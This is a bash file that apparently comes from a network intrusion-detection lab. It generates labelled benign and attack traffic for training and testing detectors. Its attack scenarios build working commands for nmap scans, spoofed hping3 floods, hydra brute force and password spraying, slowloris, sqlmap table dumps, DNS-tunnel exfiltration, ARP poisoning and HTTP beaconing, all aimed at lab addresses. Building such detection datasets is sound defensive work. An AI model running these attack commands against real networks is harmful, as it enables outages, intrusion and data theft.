# shellcheck shell=bash disable=SC2154,SC2034  # P_<name>: set by param (printf -v); tables: read by the sourcing scripts
# scenarios.sh - the lab's labelled scenarios, sourced by dataset.sh after lab-env.sh.
#
# A scenario is a function sc_NAME that, given SPLIT (train|holdout|rules), SEED and WORK (a
# directory for its generated inputs), sets:
#   SC_CLASS      the class of the attacker's flows (BENIGN for benign scenarios)
#   SC_NS         the namespace the command runs in
#   SC_ATTACKERS  addresses or CIDRs whose flows get SC_CLASS (empty for benign scenarios)
#   SC_BOUND      seconds after which the command is killed
#   SC_CMD        the bash command run inside SC_NS
#   SC_PARAMS     "name=value ..." of every seed-derived parameter (param appends to it)
#   SC_TECHNIQUE  the MITRE technique its rule must name, when not its class's (CLASS_MITRE)
# Every parameter comes from the seed: param draws it from the split's range, so training and
# held-out runs differ in seeds and in parameter ranges. Same SPLIT, SEED and scenario → same
# parameters and the same generated inputs (wordlists, query names, URL lists).
# The rules split is the attack at the size of a real one, for the behavioural rules' test
# (rules_live_e2e_test.sh): the ML splits keep runs short and small (a flood of a few thousand
# packets, a 10 s slowloris) so that many fit in a dataset; a rule judges rates and durations and
# needs the real size. Its ranges default to the held-out ones.

# ---- Seeded randomness -------------------------------------------------------------------------

# rng_int KEY LO HI: an integer in [LO, HI] from sha256("SEED/SCENARIO/KEY").
rng_int() {
  local hash
  hash=$(printf '%s/%s/%s' "$SEED" "$SC_NAME" "$1" | sha256sum | cut -c1-12)
  echo $(($2 + 16#$hash % ($3 - $2 + 1)))
}

# rng_stream KEY: an endless byte stream, the AES-256-CTR keystream of a key derived from
# "SEED/SCENARIO/KEY" (the source of generated payloads, words and number lists).
rng_stream() {
  openssl enc -aes-256-ctr -nosalt -pbkdf2 -iter 1 -pass "pass:$SEED/$SC_NAME/$1" \
    </dev/zero 2>/dev/null || true
}

# rng_numbers KEY N MOD: N integers in [0, MOD), one a line. (Subshell without pipefail: head
# ends the endless stream with SIGPIPE on purpose.)
rng_numbers() (
  set +o pipefail
  rng_stream "$1" | head -c $(($2 * 2)) | od -An -v -tu2 | tr -s ' ' '\n' |
    awk -v mod="$3" 'NF { print $1 % mod }'
)

# rng_words KEY N LEN: N lowercase base32 words of LEN characters.
rng_words() (
  set +o pipefail
  rng_stream "$1" | head -c $(($2 * $3)) | base32 -w0 | tr -d = | tr '[:upper:]' '[:lower:]' |
    fold -w "$3" | head -n "$2"
)

# param NAME TRAIN HOLDOUT [RULES]: sets P_NAME from the split's range, "LO-HI" (integers) or a
# comma list of choices, and records NAME=VALUE in SC_PARAMS.
param() {
  local name=$1 spec value
  case "$SPLIT" in
    train) spec=$2 ;;
    rules) spec=${4:-$3} ;;
    *) spec=$3 ;;
  esac
  if [[ $spec =~ ^([0-9]+)-([0-9]+)$ ]]; then
    value=$(rng_int "$name" "${BASH_REMATCH[1]}" "${BASH_REMATCH[2]}")
  else
    local -a choices
    IFS=, read -ra choices <<<"$spec"
    value=${choices[$(rng_int "$name" 0 $((${#choices[@]} - 1)))]}
  fi
  printf -v "P_$name" '%s' "$value"
  SC_PARAMS+="${SC_PARAMS:+ }$name=$value"
}

# ---- Classes ------------------------------------------------------------------------------------

# The one table of classes and their MITRE ATT&CK techniques.
declare -gA CLASS_MITRE=(
  [BENIGN]=-
  [PortScan]=T1046
  [DoS-Flood]=T1498
  [DoS-SlowHTTP]=T1499
  [BruteForce]=T1110
  [WebAttack]=T1190
  [DNSTunnel]=T1071.004
)

# The behavioural rules (docs/rules.md) that an attack scenario of the rules split must raise,
# with its class's technique; "-" for none: web attacks are the ML detector's alone.
declare -gA SCENARIO_RULES=(
  [nmap_syn]=port_scan [nmap_connect]=port_scan [nmap_fin]=fin_scan [nmap_xmas]=xmas_scan
  [nmap_udp]=udp_scan [nmap_sweep]="ping_sweep host_sweep"
  [flood_syn]=syn_flood [flood_udp]=udp_flood [flood_icmp]=icmp_flood
  [flood_syn_spoofed]=syn_flood [flood_udp_spoofed]=udp_flood [flood_icmp_spoofed]=icmp_flood
  [hydra_ssh]=brute_force [hydra_ftp]=brute_force [slowloris]=slow_http [slowread]=slow_http
  [sqlmap]=- [dns_tunnel]=dns_tunnel
  [spray_ssh]=credential_spraying [arp_spoof]=arp_spoof [beacon_http]=beaconing
)

BENIGN_SCENARIOS="benign_web benign_download benign_ssh benign_dns benign_ftp benign_iperf3"
ATTACK_SCENARIOS="nmap_syn nmap_connect nmap_fin nmap_xmas nmap_udp nmap_sweep
  flood_syn flood_udp flood_icmp flood_syn_spoofed flood_udp_spoofed flood_icmp_spoofed
  hydra_ssh hydra_ftp slowloris slowread sqlmap dns_tunnel"
ALL_SCENARIOS="$BENIGN_SCENARIOS $ATTACK_SCENARIOS"
# Attacks with a behavioural rule and no ML class: in no dataset, only in the rules' live test.
RULE_SCENARIOS="spray_ssh arp_spoof beacon_http"

SSH_OPTS="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5"
DIG="dig @$VICTIM_IP +time=1 +tries=1"
HOSTNAMES="www mail api cdn static login shop img vpn ntp git wiki docs intranet files smtp imap
  portal db cache auth status metrics news blog"

# attacker: picks att1 or att2 from the seed; SC_NS and SC_ATTACKERS follow.
attacker() {
  param attacker att1,att2 att1,att2
  if [ "$P_attacker" = att1 ]; then
    SC_NS=$NS_ATT1 SC_ATTACKERS=$ATT1_IP
  else
    SC_NS=$NS_ATT2 SC_ATTACKERS=$ATT2_IP
  fi
}

# ---- Benign -------------------------------------------------------------------------------------

# Web browsing: each line of the URL list is one curl, i.e. one keep-alive connection.
sc_benign_web() {
  SC_CLASS=BENIGN SC_NS=$NS_CLIENT SC_BOUND=60
  param requests 300-700 200-400
  param per_conn 1,1,2,3,4 1,2,3
  param pause_ms 0-40 10-80
  local -a paths=(/ /index.html "/item?id=1" "/item?id=2" "/item?id=3" /f4.bin /f32.bin /missing)
  # one line = one curl = one connection: "-o /dev/null URL" P_per_conn times
  rng_numbers urls "$P_requests" ${#paths[@]} | while read -r i; do echo "http://$VICTIM_IP${paths[$i]}"; done |
    awk -v n="$P_per_conn" '{ printf "-o /dev/null %s%s", $0, (NR % n ? " " : "\n") } END { if (NR % n) print "" }' \
      >"$WORK/urls.txt"
  SC_CMD="set -f; while read -r args; do curl -s -m 5 \$args; sleep 0.\$(printf %03d $P_pause_ms); done <$WORK/urls.txt"
}

sc_benign_download() {
  SC_CLASS=BENIGN SC_NS=$NS_CLIENT SC_BOUND=45
  param files 3-8 2-5
  param rate 2m,5m,10m,20m 1m,3m,8m
  local -a sizes=(256 1024 4096)
  rng_numbers sizes "$P_files" 3 | while read -r i; do echo "http://$VICTIM_IP/f${sizes[$i]}.bin"; done >"$WORK/urls.txt"
  SC_CMD="while read -r url; do wget -q -T 10 --limit-rate=$P_rate -O /dev/null \$url; done <$WORK/urls.txt"
}

# Interactive sessions, then an upload and a download with scp.
sc_benign_ssh() {
  SC_CLASS=BENIGN SC_NS=$NS_CLIENT SC_BOUND=60
  param sessions 2-5 1-3
  param think_s 0-2 1-3
  param upload_kb 200-2000 100-800
  param download doc8,doc64,doc512 doc64,doc512
  rng_stream upload | head -c "${P_upload_kb}K" >"$WORK/upload.bin"
  local ssh="sshpass -p $LAB_PASS ssh $SSH_OPTS $LAB_USER@$VICTIM_IP"
  local scp="sshpass -p $LAB_PASS scp $SSH_OPTS"
  SC_CMD="for i in \$(seq $P_sessions); do $ssh 'uname -a; ls -la; df -h; sleep $P_think_s'; done
    $scp $WORK/upload.bin $LAB_USER@$VICTIM_IP:upload.bin
    $scp $LAB_USER@$VICTIM_IP:$P_download.bin $WORK/download.bin"
}

sc_benign_dns() {
  SC_CLASS=BENIGN SC_NS=$NS_CLIENT SC_BOUND=45
  param queries 300-800 200-500
  param batch 5-20 10-30
  param pause_ms 50-300 100-500
  local -a hosts types=(A A A A MX TXT AAAA)
  read -ra hosts <<<"$HOSTNAMES"
  paste -d' ' <(rng_numbers names "$P_queries" ${#hosts[@]}) <(rng_numbers types "$P_queries" ${#types[@]}) |
    while read -r h t; do echo "${hosts[$h]}.lab.test ${types[$t]}"; done |
    split -l "$P_batch" - "$WORK/batch."
  SC_CMD="for f in $WORK/batch.*; do $DIG +short -f \$f >/dev/null; sleep 0.\$(printf %03d $P_pause_ms); done"
}

sc_benign_ftp() {
  SC_CLASS=BENIGN SC_NS=$NS_CLIENT SC_BOUND=45
  param fetches 5-15 3-8
  param listing_every 2-4 2-3
  local -a files=(doc8 doc64 doc512)
  rng_numbers files "$P_fetches" 3 | while read -r i; do echo "${files[$i]}"; done >"$WORK/files.txt"
  local url="ftp://$LAB_USER:$LAB_PASS@$VICTIM_IP"
  SC_CMD="n=0; while read -r f; do curl -s -m 10 -o /dev/null $url/\$f.bin; n=\$((n + 1));
    [ \$((n % $P_listing_every)) -ne 0 ] || curl -s -m 10 -o /dev/null $url/; done <$WORK/files.txt"
}

sc_benign_iperf3() {
  SC_CLASS=BENIGN SC_NS=$NS_CLIENT SC_BOUND=20
  param seconds 2-5 2-3
  param bitrate 20M,50M,100M,200M 30M,80M
  param streams 1-3 1-2
  param reverse 0-1 0-1
  local reverse=""
  [ "$P_reverse" = 0 ] || reverse=-R
  SC_CMD="iperf3 -c $VICTIM_IP -t $P_seconds -b $P_bitrate -P $P_streams $reverse >/dev/null"
}

# ---- PortScan -----------------------------------------------------------------------------------

# nmap_tcp FLAG: a TCP scan of a seeded port range plus the services' ports.
nmap_tcp() {
  SC_CLASS=PortScan SC_BOUND=60
  attacker
  param port_start 1-2000 2001-9000
  param ports 400-1200 200-700
  param timing T3,T5 T4
  param retries 0-2 1-2
  SC_CMD="nmap $1 -n -Pn -$P_timing --max-retries $P_retries \
    -p 21,22,53,80,$P_port_start-$((P_port_start + P_ports)) $VICTIM_IP >/dev/null"
}
sc_nmap_syn() { nmap_tcp -sS; }
sc_nmap_connect() { nmap_tcp -sT; }
sc_nmap_fin() { nmap_tcp -sF; }
sc_nmap_xmas() { nmap_tcp -sX; }

sc_nmap_udp() {
  SC_CLASS=PortScan SC_BOUND=40
  attacker
  param top_ports 20-60 10-30 60-100
  param timing T4,T5 T4,T5
  SC_CMD="nmap -sU -n -Pn -$P_timing --max-retries 1 --top-ports $P_top_ports $VICTIM_IP >/dev/null"
}

# Host discovery over (part of) the victim subnet; absent hosts never answer.
sc_nmap_sweep() {
  SC_CLASS=PortScan SC_BOUND=45
  attacker
  param net 10.200.2.0/24,10.200.2.0/25,10.200.2.0/26 10.200.2.0/27,10.200.2.0/25
  param probes default,PE,PS22.80.443,PA80 default,PE
  param timing T4,T5 T3,T4
  local probes=""
  [ "$P_probes" = default ] || probes="-${P_probes//./,}"
  SC_CMD="nmap -sn -n -$P_timing $probes $P_net >/dev/null"
}

# ---- DoS-Flood ----------------------------------------------------------------------------------

# flood MODE_ARGS [spoofed]: hping3 paced with -i and bounded by -c (--flood ignores -c), in
# `procs` processes (the rules split: one hping3 sends ~15 000 packets a second here). A spoofed
# flood uses --rand-source and an nftables rule in the attacker's namespace that rewrites each
# source into SPOOF_NET (low 17 bits kept, checksums fixed by the kernel).
flood() {
  SC_CLASS=DoS-Flood SC_BOUND=30
  attacker
  param count 2000-8000 1500-5000 20000-25000
  param interval_us 20-200 40-400 10-10
  param payload 0-512 16-1024 0-64
  param procs 1-1 1-1 4-4
  local own=$SC_ATTACKERS cmd="hping3 -q $1 -i u$P_interval_us -c $P_count -d $P_payload"
  if [ "${2:-}" = spoofed ]; then
    SC_ATTACKERS="$own $SPOOF_NET"
    cmd+=" --rand-source $VICTIM_IP 2>/dev/null"
  else
    cmd+=" $VICTIM_IP 2>/dev/null"
  fi
  [ "$P_procs" = 1 ] || cmd="for i in \$(seq $P_procs); do $cmd & done; wait"
  if [ "${2:-}" = spoofed ]; then
    SC_CMD="nft 'add table ip ngl_spoof; add chain ip ngl_spoof out { type filter hook output priority 0; };
      add rule ip ngl_spoof out ip saddr != $own ip saddr set ip saddr & 0.1.255.255 | ${SPOOF_NET%/*}'
      $cmd; nft delete table ip ngl_spoof"
  else
    SC_CMD=$cmd
  fi
}
flood_syn_args() {
  param port 80,22,21,443 80,53,8080
  FLOOD_ARGS="-S -p $P_port"
}
flood_udp_args() {
  param port 53,123,5201,9999 53,161,1900
  FLOOD_ARGS="--udp -p $P_port"
}
sc_flood_syn() { flood_syn_args && flood "$FLOOD_ARGS"; }
sc_flood_udp() { flood_udp_args && flood "$FLOOD_ARGS"; }
sc_flood_icmp() { flood --icmp; }
sc_flood_syn_spoofed() { flood_syn_args && flood "$FLOOD_ARGS" spoofed; }
sc_flood_udp_spoofed() { flood_udp_args && flood "$FLOOD_ARGS" spoofed; }
sc_flood_icmp_spoofed() { flood --icmp spoofed; }

# ---- BruteForce ---------------------------------------------------------------------------------

# brute_wordlist N: N seeded wrong passwords, the real one at a seeded place when P_found=1.
brute_wordlist() {
  param found 0-1 0-1 0-0
  # in the last third, so a found password still leaves a run of failures before it
  param found_at "$(($1 * 2 / 3))-$(($1 - 1))" "$(($1 * 2 / 3))-$(($1 - 1))"
  rng_words words "$1" 8 >"$WORK/words.txt"
  [ "$P_found" = 0 ] || sed -i "$((P_found_at + 1))s/.*/$LAB_PASS/" "$WORK/words.txt"
  printf '%s\n' "$LAB_USER" admin root | head -n "$P_users" >"$WORK/users.txt"
}

sc_hydra_ssh() {
  SC_CLASS=BruteForce SC_BOUND=75
  attacker
  # the rules split: 32 tasks (sshd's PAM delay holds each ~2 s a password; MaxStartups 100)
  param words 40-100 20-50 300-300
  param tasks 8-16 4-8 32-32
  param users 1-3 1-2 1-1
  brute_wordlist "$P_words"
  SC_CMD="cd $WORK && hydra -I -f -t $P_tasks -L users.txt -P words.txt ssh://$VICTIM_IP >/dev/null"
}

sc_hydra_ftp() {
  SC_CLASS=BruteForce SC_BOUND=75
  attacker
  param words 30-120 20-60 300-300
  param tasks 4-16 6-10 16-16
  param users 1-3 1-2 1-1
  brute_wordlist "$P_words"
  SC_CMD="cd $WORK && hydra -I -f -t $P_tasks -L users.txt -P words.txt ftp://$VICTIM_IP >/dev/null"
}

# ---- DoS-SlowHTTP -------------------------------------------------------------------------------

# slow_http alerts on connections open for 30 s: the rules split holds them for 50 s.
sc_slowloris() {
  SC_CLASS=DoS-SlowHTTP
  attacker
  param conns 150-500 100-300
  param rate 50-200 30-100
  param interval_s 5-15 8-20
  param seconds 15-25 10-15 50-50
  SC_BOUND=$((P_seconds > 25 ? P_seconds + 15 : 40))
  SC_CMD="slowhttptest -H -c $P_conns -r $P_rate -i $P_interval_s -t GET -u http://$VICTIM_IP/ \
    -x 24 -p 3 -l $P_seconds >/dev/null"
}

sc_slowread() {
  SC_CLASS=DoS-SlowHTTP
  attacker
  param conns 100-300 50-150
  param rate 50-150 30-80
  param window 8-32 16-64
  param read_s 2-5 3-8
  param read_bytes 16-64 32-128
  param seconds 15-25 10-15 50-50
  SC_BOUND=$((P_seconds > 25 ? P_seconds + 15 : 40))
  SC_CMD="slowhttptest -X -c $P_conns -r $P_rate -w $P_window -y $((P_window * 2)) -n $P_read_s \
    -z $P_read_bytes -k 3 -u http://$VICTIM_IP/f1024.bin -p 3 -l $P_seconds >/dev/null"
}

# ---- WebAttack ----------------------------------------------------------------------------------

# Detection, then the seeded goal: enumerate the schema, dump one table, or dump everything.
sc_sqlmap() {
  SC_CLASS=WebAttack SC_BOUND=45
  attacker
  param technique B,E,U,BEU,BU BE,EU,BEUS
  param level 1-2 1-3
  param risk 1-2 1-3
  param threads 1-4 1-3
  param goal schema,accounts,all all,schema
  param extra_params 1-3 1-2
  local -A goals=([schema]="--tables --columns" [accounts]="-T accounts --dump" [all]="--dump-all")
  # sqlmap tests the parameters in order: the app ignores the extra ones in front of id, so each
  # gets the technique's full battery before id is found injectable
  local query="" i
  local -a extras=(cat sort page)
  for i in $(seq 0 $((P_extra_params - 1))); do query+="${extras[$i]}=$(rng_int "extra$i" 1 99)&"; done
  query+="id=1"
  SC_CMD="sqlmap -u 'http://$VICTIM_IP/item?$query' --batch --dbms=SQLite --flush-session \
    --technique=$P_technique --level $P_level --risk $P_risk --threads $P_threads \
    --output-dir=$WORK/sqlmap ${goals[$P_goal]} >/dev/null"
}

# ---- DNSTunnel ----------------------------------------------------------------------------------

# Data exfiltrated as base32 labels under t.lab.test (the wildcard zone answers every name).
sc_dns_tunnel() {
  SC_CLASS=DNSTunnel SC_BOUND=45
  attacker
  param queries 200-500 100-250
  param label_len 30-60 20-40
  param labels 1-3 2-3
  param qtype TXT,A,TXT,NULL TXT,MX
  param batch 10-50 20-40
  param pause_ms 0-200 50-250
  local l
  for l in $(seq "$P_labels"); do rng_words "chunk$l" "$P_queries" "$P_label_len" >"$WORK/chunk$l"; done
  paste -d. "$WORK"/chunk* | awk -v t="$P_qtype" '{ print $0 ".t.lab.test " t }' |
    split -l "$P_batch" - "$WORK/batch."
  SC_CMD="for f in $WORK/batch.*; do $DIG +short -f \$f >/dev/null; sleep 0.\$(printf %03d $P_pause_ms); done"
}

# ---- Rules only (RULE_SCENARIOS) ----------------------------------------------------------------

# One wrong password for one user on each sshd address of the server farm (FARM_HOSTS).
sc_spray_ssh() {
  SC_CLASS=BruteForce SC_TECHNIQUE=T1110.003 SC_BOUND=60
  attacker
  param hosts 10-12 10-12 12-12
  printf '%s\n' $FARM_HOSTS | head -n "$P_hosts" >"$WORK/hosts.txt"
  rng_words password 1 10 >"$WORK/password.txt"
  SC_CMD="cd $WORK && hydra -I -t 1 -l $LAB_USER -P password.txt -M hosts.txt ssh >/dev/null"
}

# ARP poisoning of the gateway: the client resolves the sensor (its ARP request, before a web
# request, tells the sensor its MAC), then the attacker broadcasts ARP replies giving the
# client's address its own MAC (nping). (nsenter keeps the host's /sys: the MAC comes from ip.)
sc_arp_spoof() {
  SC_CLASS=ARPSpoof SC_TECHNIQUE=T1557.002 SC_BOUND=20
  attacker
  param replies 3-6 3-6 3-6
  SC_CMD="nsenter --net=/run/netns/$NS_CLIENT ip neigh flush dev $HOST_IF &&
    nsenter --net=/run/netns/$NS_CLIENT curl -s -m 2 -o /dev/null http://$VICTIM_IP/ && sleep 1 &&
    nping --arp --arp-type ARP-reply --arp-sender-mac \$(ip -br link show $HOST_IF | awk '{print \$3}') \
      --arp-sender-ip $CLIENT_IP --arp-target-mac ff:ff:ff:ff:ff:ff --arp-target-ip $SENSOR_LAN_IP \
      --dest-mac ff:ff:ff:ff:ff:ff -e $HOST_IF -c $P_replies --delay 500ms -q $SENSOR_LAN_IP"
}

# An implant polling its command server at a fixed interval.
sc_beacon_http() {
  SC_CLASS=Beaconing SC_TECHNIQUE=T1071 SC_BOUND=40
  attacker
  param polls 10-12 10-12 10-10
  param interval_ms 1200-2000 1200-2000 1500-1500
  local pause
  pause=$(printf '%d.%03d' $((P_interval_ms / 1000)) $((P_interval_ms % 1000)))
  SC_CMD="for i in \$(seq $P_polls); do curl -s -m 1 -o /dev/null http://$VICTIM_IP/; sleep $pause; done"
}

# ---- Benign background --------------------------------------------------------------------------

# background_script FILE: the client's benign traffic during every run, a seeded list (per seed
# and scenario) of web, download, DNS and FTP requests with pauses (bounded by the runner,
# stopped at the end of the run).
background_script() {
  local SC_NAME="background/$SC_NAME" SC_PARAMS=""
  local -a hosts
  read -ra hosts <<<"$HOSTNAMES"
  local -a actions=(
    "curl -s -m 3 -o /dev/null http://$VICTIM_IP/"
    "curl -s -m 3 -o /dev/null http://$VICTIM_IP/item?id=2"
    "curl -s -m 5 -o /dev/null http://$VICTIM_IP/f32.bin"
    "wget -q -T 5 -O /dev/null http://$VICTIM_IP/f256.bin"
    "$DIG +short www.lab.test >/dev/null"
    "$DIG +short mail.lab.test MX >/dev/null"
    "curl -s -m 5 -o /dev/null ftp://$LAB_USER:$LAB_PASS@$VICTIM_IP/doc8.bin"
  )
  paste -d' ' <(rng_numbers action 300 ${#actions[@]}) <(rng_numbers pause 300 9) |
    while read -r a p; do echo "${actions[$a]}; sleep 0.$((p + 1))"; done >"$1"
}
